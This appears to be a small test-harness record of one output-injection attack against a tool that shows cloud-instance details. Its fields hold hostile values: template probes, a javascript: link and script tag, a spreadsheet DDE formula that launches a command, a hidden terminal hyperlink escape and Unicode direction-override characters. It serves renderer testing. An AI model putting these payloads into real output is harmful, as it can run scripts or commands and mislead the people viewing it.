# attack: 28
# does: answers with text that a terminal, a page or a table would take for more than text
# run: finished
# earns: 0
public_ip = "[bold red]10/10[/bold red] {{7*7}} ${7*7}"
public_dns = "](javascript:alert(1)) <script>alert(1)</script>"
key_name = "=cmd|' /C calc'!A0"
instance_type = "\x1b]8;;http://192.0.2.1\x07click\x1b]8;;\x07"
state = "\u202e\u2066\u2069\u200f stopped"
